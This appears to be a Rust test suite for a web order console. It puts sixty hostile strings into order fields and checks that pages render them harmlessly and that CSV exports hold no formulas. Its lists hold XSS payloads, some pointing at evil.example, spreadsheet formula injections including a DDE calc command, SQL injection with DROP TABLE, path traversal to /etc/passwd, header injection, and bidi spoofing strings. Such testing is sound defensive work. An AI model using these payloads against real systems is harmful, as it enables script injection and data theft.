//! Sixty hostile strings are shown and exported without effect, on every page.

use pressline_domain::check::Field;
use pressline_domain::order::request::{LineItemDraft, OrderDraft};
use pressline_http::asset::gzip;

use crate::browser::Browser;
use crate::html::{Element, assert_well_made};
use crate::order::{Shop, draft};
use crate::roles::pages;
use crate::world::World;

/// Maximum size of a compressed page, in bytes.
const HEAVIEST: usize = 60 * 1024;
/// Strings that close an attribute, an element or a script, run code, or load resources.
const MARKUP: [&str; 25] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</bdi></td></tr></table><h1>Owned</h1>",
    "<!-- <script>alert(1)</script> -->",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<form action=\"https://evil.example\"><input name=token>",
    "<base href=\"https://evil.example/\">",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<div hx-get=\"/console/sign-out\" hx-trigger=load>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];
/// Strings that reverse, hide or stretch the surrounding text, or imitate other text.
const CHARACTERS: [&str; 20] = [
    "\u{202e}gnp.exe",
    "\u{202d}left\u{202c}",
    "\u{2066}isolated",
    "\u{2067}right to left isolate",
    "مرحبا بالعالم (1)",
    "שלום 123 abc",
    "zero\u{200b}width\u{200d}joined",
    "\u{feff}marked",
    "soft\u{ad}hyphen",
    "Z\u{336}a\u{337}l\u{338}g\u{321}o\u{489}",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "AаᎪ Ꮯyrillic",
    "ﬁligature ǅ ſharp ß İ",
    "no\u{a0}break\u{2007}spaces",
    "Wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
    "%00%0d%0aSet-Cookie:%20x=1",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> {% include 'x' %}",
    "../../../etc/passwd",
    "' OR '1'='1'; DROP TABLE orders; --",
    "\\u003cscript\\u003e \\x3c \\\\",
];
/// Strings that a spreadsheet would evaluate as formulas.
const FORMULAS: [&str; 15] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@A1",
    "=\"a\"&\"b\"",
    "\"=1+1\"",
    ",=1+1",
    ";=1+1",
    "==1",
];

fn texts() -> impl Iterator<Item = &'static str> {
    [&MARKUP[..], &CHARACTERS, &FORMULAS].concat().into_iter()
}

/// Two drafts: with `text` in all text fields, and with `text` only in fields that accept any
/// string.
fn drafts(text: &str, number: usize) -> [OrderDraft; 2] {
    let item = LineItemDraft {
        sku: format!("SKU-{number}").into(),
        name: text.into(),
        quantity: 1.into(),
        file_urls: Field::Value(vec![
            "https://files.example/?a=1&lt;b=%22%3E%3Cscript".into(),
        ]),
        ..LineItemDraft::default()
    };
    let everywhere = LineItemDraft {
        sku: text.into(),
        ship_class: text.into(),
        ref_id: text.into(),
        ..item.clone()
    };
    [
        (text.to_owned(), everywhere),
        (format!("shop-{number}"), item),
    ]
    .map(|(order_id, item)| {
        let mut hostile = draft(&order_id, &[]);
        hostile.line_items = Field::Value(vec![Field::Value(item)]);
        if let Field::Value(address) = &mut hostile.shipping_address {
            address.company = text.into();
            address.city = text.into();
        }
        if let Field::Value(customer) = &mut hostile.customer {
            customer.first_name = text.into();
        }
        hostile
    })
}

#[actix_web::test]
async fn sixty_hostile_texts_are_shown_on_every_page_without_effect() {
    let world = World::new().await;
    let shop = Shop::new(&world);
    let mut browser = world.signed_in_at("ana", "/console/account").await;
    for (at, text) in texts().enumerate() {
        let [everywhere, somewhere] = drafts(text, at);
        if shop.try_place(&everywhere).await.is_err() {
            shop.place(&somewhere).await;
        }
        let note = [("text", text)];
        let path = format!("/console/orders/SUN-{}/notes", at + 1);
        browser.post(&path, &note).await.is(303);
    }
    assert_eq!(browser.get("/console/orders/SUN-60").await.status, 200);
    let mut missing = Vec::new();
    for (at, text) in texts().enumerate() {
        let number = format!("SUN-{}", at + 1);
        for path in pages(&number, text) {
            // Lists without a filter are checked once: they do not depend on the string.
            if at > 0 && !path.contains(&number) && !path.contains('?') {
                continue;
            }
            assert_harmless(&mut browser, &path, text).await;
        }
        let page = browser.get(&format!("/console/orders/{number}")).await;
        if !is_shown(&assert_well_made(&number, &page.body), text) {
            missing.push(text);
        }
    }
    assert!(missing.is_empty(), "not shown: {missing:?}");
}

/// Opens `path` and asserts that HTML is well-formed and that a CSV file contains no formula.
async fn assert_harmless(browser: &mut Browser<'_>, path: &str, text: &str) {
    let page = browser.get(path).await;
    let status = page.status.as_u16();
    assert!(status < 500, "{status} {path} {text}");
    let media_type = page.header("content-type");
    if media_type.starts_with("text/csv") {
        for cell in cells(&page.body) {
            let is_number = cell.parse::<f64>().is_ok();
            let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(is_number || !is_formula, "{path}: {cell}");
        }
    } else if media_type.starts_with("text/html") && status != 303 {
        let elements = assert_well_made(path, &page.body);
        let count = |name: &str| {
            elements
                .iter()
                .filter(|element| element.name == name)
                .count()
        };
        assert_eq!(count("script"), 2, "{path} {text}");
        let weight = gzip(page.body.as_bytes()).len();
        assert!(weight <= HEAVIEST, "{path}: {weight} bytes");
    }
}

/// Returns whether a `bdi` element, used to isolate foreign text, shows `text`.
fn is_shown(elements: &[Element], text: &str) -> bool {
    let mut isolated = elements.iter().filter(|element| element.name == "bdi");
    isolated.any(|element| unescaped(&element.text) == text)
}

fn unescaped(text: &str) -> String {
    let entities = [
        ("&#60;", "<"),
        ("&#62;", ">"),
        ("&#34;", "\""),
        ("&#39;", "'"),
        ("&#38;", "&"),
    ];
    let replace = |text: String, (entity, character): (&str, &str)| text.replace(entity, character);
    entities.into_iter().fold(text.to_owned(), replace)
}

fn cells(file: &str) -> Vec<String> {
    let (mut cells, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
    let mut characters = file.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            // A doubled quote inside quotes is a literal quote.
            '"' if is_quoted && characters.next_if_eq(&'"').is_some() => cell.push('"'),
            '"' => is_quoted = !is_quoted,
            ',' | '\n' if !is_quoted => cells.push(std::mem::take(&mut cell)),
            other => cell.push(other),
        }
    }
    cells
}

#[actix_web::test]
async fn every_page_is_well_made() {
    let world = World::with_orders(&[&["MUG", "TEE"]]).await;
    for name in ["ana", "vera", "<script>alert(1)</script>"] {
        let mut browser = world.signed_in(name).await;
        for path in pages("SUN-1", "MUG") {
            assert_harmless(&mut browser, &path, "MUG").await;
            for choice in ["command=hold", "decision=approve", "group=sku"] {
                let path = format!("{}?{choice}", path.split('?').next().unwrap());
                assert_harmless(&mut browser, &path, "MUG").await;
            }
        }
    }
    let mut guest = Browser::new(&world);
    for path in [
        "/console/sign-in",
        "/console/sign-in?link=x",
        "/console/nothing",
    ] {
        assert_harmless(&mut guest, path, "").await;
    }
}
